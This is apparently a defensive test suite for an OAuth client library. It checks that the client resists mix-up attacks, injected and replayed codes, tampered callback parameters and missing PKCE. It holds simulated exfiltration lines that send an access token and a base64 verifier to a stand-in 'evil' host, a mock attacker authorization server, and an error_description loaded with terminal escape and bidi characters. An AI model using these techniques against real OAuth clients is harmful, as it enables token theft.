/** Logins whose answers are not what the client asked for: mixed up, injected, replayed, changed. */
import { assert, describe, it } from "@effect/vitest"
import { AuthError, AuthorizationCode, UserAgent } from "@mcpfx/auth"
import type { TestAuthorizationServer } from "@mcpfx/testing"
import { Effect, Option } from "effect"
import { HttpClientRequest } from "effect/http"
import { json } from "../../src/attacks/network.ts"
import {
  Add,
  answering,
  authorize,
  browserWith,
  connect,
  evil,
  issuer,
  make,
  mcpUrl,
  reasonOf,
  tokenUrl,
  type World
} from "../../src/attacks/world.ts"

const rejected = (
  parameter: "state" | "iss" | "code" | "error",
  fault: "missing" | "wrong" | "repeated",
  at = issuer
) => new AuthError.CallbackRejected({ issuer: at, parameter, fault })

const changed = (change: (parameters: URLSearchParams) => void) => (answer: URL): URL => {
  const url = new URL(answer)
  change(url.searchParams)
  return url
}

/** A login whose answer is changed on its way fails with this, and the token endpoint hears nothing of it. */
const turnedAway = (change: (parameters: URLSearchParams) => void, expected: AuthError.Reason) =>
  Effect.gen(function*() {
    const world = yield* make()
    const agent = browserWith(world, (answer) => {
      world.network.secrets.add("code", answer.searchParams.get("code"), issuer)
      return changed(change)(answer)
    })
    const reason = yield* reasonOf(connect(world, { agent }))
    assert.deepStrictEqual(reason, expected)
    assert.lengthOf(world.network.secrets.of("code"), 1)
    assert.deepStrictEqual(world.network.at(tokenUrl), [])
    assert.deepStrictEqual(world.network.strays, [])
  })

describe("the watch", () => {
  it.effect("[ACL-01] [ACL-24] a whole login sends every secret home, and nowhere else", () =>
    Effect.gen(function*() {
      const world = yield* make()
      const { mcp, oauth } = yield* connect(world)
      assert.deepStrictEqual(yield* mcp.call(Add, { a: 1, b: 2 }), { sum: 3 })
      yield* oauth.logout
      const kinds = new Set(world.network.secrets.all.map(({ kind }) => kind))
      assert.deepStrictEqual([...kinds].toSorted(), ["access token", "code", "refresh token", "verifier"])
      assert.deepStrictEqual([world.network.strays, world.network.strangers], [[], []])
    }))

  it.effect("finds a secret wherever it goes astray", () =>
    Effect.gen(function*() {
      const world = yield* make()
      const { network } = world
      network.on(evil, {})
      yield* connect(world)
      const [token = ""] = network.secrets.of("access token")
      const [verifier = ""] = network.secrets.of("verifier")
      yield* network.client.get(`${mcpUrl}?access_token=${token}`)
      yield* network.client.get(`${evil}/?v=${Buffer.from(verifier).toString("base64")}`)
      yield* network.client.post(evil, { headers: { authorization: `Bearer ${token}` } })
      assert.deepStrictEqual(network.strays, [
        `access token to ${mcpUrl}`,
        `verifier to ${evil}/`,
        `access token to ${evil}/`
      ])
    }))
})

/** A server of an attacker, whose authorization server sends people to the honest one to log in. */
const mixUp = (options: TestAuthorizationServer.Options) =>
  Effect.gen(function*() {
    const client = { clientId: "shared", redirectUris: ["http://127.0.0.1:8976/callback"] }
    const world = yield* make({ authority: { clients: [client], ...options } })
    const { network } = world
    const taken: Array<URLSearchParams> = []
    network
      .on(`${evil}/mcp`, () => new Response("{}", { status: 401 }))
      .on(`${evil}/.well-known/oauth-protected-resource/mcp`, {
        resource: `${evil}/mcp`,
        authorization_servers: [evil]
      })
      .on(`${evil}/.well-known/oauth-authorization-server`, {
        issuer: evil,
        authorization_endpoint: `${issuer}/authorize`,
        token_endpoint: `${evil}/token`,
        registration_endpoint: `${evil}/register`,
        code_challenge_methods_supported: ["S256"]
      })
      .on(`${evil}/register`, ({ body }) => json({ ...JSON.parse(body), client_id: "shared" }, 201))
      .on(`${evil}/token`, ({ form }) => {
        taken.push(form)
        return json({ error: "invalid_grant" }, 400)
      })
    const agent = (change: (answer: URL) => URL = (answer) => answer) =>
      browserWith(world, (answer) => {
        network.secrets.add("code", answer.searchParams.get("code"), issuer)
        return change(answer)
      })
    return { world, agent, taken }
  })

const attacked = { url: `${evil}/mcp` }

describe("a mix-up", () => {
  it.effect("[ACL-18] [ACL-19] a code of the honest server is not given to the attacker's", () =>
    Effect.gen(function*() {
      const { agent, taken, world } = yield* mixUp({})
      const { http } = yield* authorize(world, { ...attacked, agent: agent() })
      assert.deepStrictEqual(yield* reasonOf(http.post(`${evil}/mcp`)), rejected("iss", "wrong", evil))
      assert.lengthOf(world.network.secrets.of("code"), 1)
      assert.deepStrictEqual([taken, world.network.strays], [[], []])
    }))

  it.effect("[ACL-19] issuers that only look alike are others", () =>
    Effect.gen(function*() {
      for (const iss of [`${issuer}/`, "https://LOGIN.test", "https://login.test:443", "https://login.test/.", ""]) {
        yield* turnedAway(
          (parameters) => parameters.set("iss", iss),
          rejected("iss", iss === "" ? "missing" : "wrong")
        )
      }
    }))

  it.effect("[ACL-19] who promises to name the issuer has to", () =>
    turnedAway((parameters) => parameters.delete("iss"), rejected("iss", "missing")))

  it.effect("[ACL-19] an error of another issuer is not even read", () =>
    Effect.gen(function*() {
      yield* turnedAway((parameters) => {
        parameters.delete("code")
        parameters.set("iss", evil)
        parameters.set("error", "access_denied")
        parameters.set("error_description", "call this number")
      }, rejected("iss", "wrong"))
    }))

  it.effect("[ACL-16] [ARS-07] where nobody names issuers, what the attacker gets is good at its own server alone", () =>
    Effect.gen(function*() {
      const { agent, taken, world } = yield* mixUp({ iss: false })
      const { http } = yield* authorize(world, { ...attacked, agent: agent() })
      const reason = yield* reasonOf(http.post(`${evil}/mcp`))
      assert.deepInclude(reason, { _tag: "OAuthRefused", error: "invalid_grant", issuer: evil })
      const [form = new URLSearchParams()] = taken
      assert.strictEqual(form.get("resource"), `${evil}/mcp`)
      const stolen = yield* world.login.client.execute(
        HttpClientRequest.post(tokenUrl).pipe(
          HttpClientRequest.bodyUrlParams({ ...Object.fromEntries(form), resource: mcpUrl })
        )
      )
      assert.strictEqual(stolen.status, 400)
      const own = yield* mixUp({ iss: false })
      const victim = yield* authorize(own.world, { ...attacked, agent: own.agent() })
      yield* reasonOf(victim.http.post(`${evil}/mcp`))
      const answer = yield* own.world.login.client.execute(
        HttpClientRequest.post(tokenUrl).pipe(HttpClientRequest.bodyUrlParams(Object.fromEntries(own.taken[0] ?? [])))
      )
      assert.strictEqual(answer.status, 200)
      const token = String(Reflect.get(Object(yield* answer.json), "access_token"))
      const used = yield* own.world.network.client.post(mcpUrl, {
        headers: { authorization: `Bearer ${token}` }
      })
      assert.strictEqual(used.status, 401)
      assert.include(used.headers["www-authenticate"], "error=\"invalid_token\"")
    }))
})

describe("codes", () => {
  /** A code of somebody else's login, from the same client. */
  const foreignCode = ({ login }: World) =>
    Effect.gen(function*() {
      const url = new URL(login.url("authorize"))
      url.search = new URLSearchParams({
        response_type: "code",
        client_id: "shared",
        redirect_uri: "http://127.0.0.1:8976/callback",
        state: "attacker",
        code_challenge: "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
        code_challenge_method: "S256",
        scope: "sums",
        resource: mcpUrl
      }).toString()
      const { visit } = login.userAgent()
      const { open } = yield* visit(undefined)
      return (yield* open(url, { issuer, resource: mcpUrl })).searchParams.get("code") ?? ""
    }).pipe(Effect.scoped)

  const shared = { clientId: "shared", redirectUris: ["http://127.0.0.1:8976/callback"] }
  const grant = AuthorizationCode.grant({ client: { issuer, clientId: "shared" } })

  it.effect("[ACL-14] an injected one is worth nothing: it belongs to another verifier", () =>
    Effect.gen(function*() {
      const world = yield* make({ authority: { clients: [shared] } })
      const code = yield* foreignCode(world)
      assert.isNotEmpty(code)
      const agent = browserWith(world, changed((parameters) => parameters.set("code", code)))
      const { http, oauth } = yield* authorize(world, { agent, grant })
      const reason = yield* reasonOf(http.post(mcpUrl))
      assert.deepInclude(reason, { _tag: "OAuthRefused", endpoint: "token", status: 400, error: "invalid_grant" })
      assert.strictEqual((yield* oauth.status)._tag, "Failed")
      // Nor is it tried again, nor the login begun anew by the next request.
      yield* reasonOf(http.post(mcpUrl))
      const [asked, ...more] = world.network.at(tokenUrl)
      assert.deepStrictEqual([asked?.form.get("code"), more], [code, []])
      assert.deepStrictEqual(world.network.strays, [])
    }))

  it.effect("[ACL-14] [ACL-30] a used one in the answer of a new login is worth nothing", () =>
    Effect.gen(function*() {
      const world = yield* make({ authority: { clients: [shared] } })
      let first: string | undefined
      const agent = browserWith(world, (answer) => {
        first ??= answer.searchParams.get("code") ?? ""
        return changed((parameters) => parameters.set("code", first ?? ""))(answer)
      })
      const { http, oauth } = yield* authorize(world, { agent, grant })
      assert.notStrictEqual((yield* http.post(mcpUrl)).status, 401)
      const reason = yield* reasonOf(oauth.login())
      assert.deepInclude(reason, { _tag: "OAuthRefused", error: "invalid_grant" })
      assert.strictEqual(world.network.at(tokenUrl).length, 2)
    }))

  it.effect("[ACL-21] the answer of an earlier login is none to a later one", () =>
    Effect.gen(function*() {
      const world = yield* make()
      let first: URL | undefined
      const agent = browserWith(world, (answer) => first ??= answer)
      const { http, oauth } = yield* authorize(world, { agent })
      yield* http.post(mcpUrl)
      assert.deepStrictEqual(yield* reasonOf(oauth.login()), rejected("state", "wrong"))
      assert.strictEqual(world.network.at(tokenUrl).length, 1)
      // The login before it is as good as it was.
      assert.strictEqual((yield* oauth.status)._tag, "LoggedIn")
    }))

  it.effect("[ACL-14] [ACL-21] state and verifier are others each time, and long", () =>
    Effect.gen(function*() {
      const world = yield* make()
      const pages: Array<URL> = []
      const agent = browserWith(world, (answer, page) => {
        pages.push(page)
        return answer
      })
      const { oauth } = yield* authorize(world, { agent })
      yield* oauth.login()
      yield* oauth.login()
      const of = (name: string) => pages.map(({ searchParams }) => searchParams.get(name) ?? "")
      assert.isTrue(new Set([...of("state"), ...of("code_challenge")]).size === 4)
      for (const state of of("state")) assert.isAtLeast(state.length, 43)
      for (const verifier of world.network.secrets.of("verifier")) assert.isAtLeast(verifier.length, 43)
      assert.deepStrictEqual(of("code_challenge_method"), ["S256", "S256"])
    }))
})

describe("parameters", () => {
  it.effect("[ACL-21] without the right state nothing is an answer", () =>
    Effect.gen(function*() {
      yield* turnedAway((parameters) => parameters.delete("state"), rejected("state", "missing"))
      yield* turnedAway((parameters) => parameters.set("state", ""), rejected("state", "missing"))
      yield* turnedAway((parameters) => parameters.set("state", "x".repeat(43)), rejected("state", "wrong"))
      yield* turnedAway(
        (parameters) => parameters.set("state", `${parameters.get("state")}=`),
        rejected("state", "wrong")
      )
    }))

  it.effect("[ACL-30] each is there once: a second one makes the answer none", () =>
    Effect.gen(function*() {
      for (const name of ["iss", "state", "code"] as const) {
        yield* turnedAway((parameters) => parameters.append(name, "other"), rejected(name, "repeated"))
        yield* turnedAway(
          (parameters) => parameters.append(name, parameters.get(name) ?? ""),
          rejected(name, "repeated")
        )
      }
      yield* turnedAway((parameters) => {
        parameters.append("error", "a")
        parameters.append("error", "b")
      }, rejected("error", "repeated"))
      yield* turnedAway((parameters) => parameters.delete("code"), rejected("code", "missing"))
    }))

  it.effect("[ACL-30] an answer in the fragment is no answer", () =>
    Effect.gen(function*() {
      const world = yield* make()
      const agent = browserWith(world, (answer) => {
        const url = new URL(answer)
        url.hash = url.search.slice(1)
        url.search = ""
        return url
      })
      assert.deepStrictEqual(yield* reasonOf(connect(world, { agent })), rejected("iss", "missing"))
      assert.deepStrictEqual(world.network.at(tokenUrl), [])
    }))

  it.effect("[ACL-30] a denial beside a code is a denial, in short and printable words", () =>
    Effect.gen(function*() {
      const world = yield* make()
      const agent = browserWith(
        world,
        changed((parameters) => {
          parameters.set("error", "access_denied")
          parameters.set("error_description", `\u001b[2J${parameters.get("state")}\u202e${"x".repeat(10_000)}`)
        })
      )
      const reason = yield* reasonOf(connect(world, { agent }))
      assert.deepInclude(reason, { _tag: "LoginDenied", error: "access_denied" })
      if (reason._tag !== "LoginDenied") return
      assert.isAtMost(reason.description?.length ?? 0, 200)
      assert.notMatch(reason.description ?? "", /\p{C}/u)
      assert.deepStrictEqual(world.network.at(tokenUrl), [])
    }))
})

describe("PKCE", () => {
  it.effect("[ACL-14] nobody is sent to a server that does not say it knows S256", () =>
    Effect.gen(function*() {
      for (const methods of [undefined, [], ["plain"], ["s256"], "S256"]) {
        const world = yield* make()
        yield* world.login.changeMetadata({ code_challenge_methods_supported: methods })
        const agent = answering((page) => page)
        const error = yield* Effect.flip(connect(world, { agent }))
        const reason = Option.getOrThrow(AuthError.find(error)).reason
        const isList = methods === undefined || Array.isArray(methods)
        assert.strictEqual(reason._tag, isList ? "InsecureServer" : "DiscoveryFailed", String(methods))
        if (reason._tag === "InsecureServer") assert.strictEqual(reason.why, "pkce")
        assert.deepStrictEqual([agent.opened, world.network.at(tokenUrl)], [[], []])
      }
    }))

  it.effect("[ACL-14] nobody means nobody: without a user agent no page is opened", () =>
    Effect.gen(function*() {
      const world = yield* make()
      const agent = yield* Effect.provide(UserAgent.UserAgent, UserAgent.layerNone)
      const reason = yield* reasonOf(connect(world, { agent }))
      assert.deepInclude(reason, { _tag: "LoginRequired", issuer })
      assert.deepStrictEqual(world.network.at(tokenUrl), [])
    }))
})
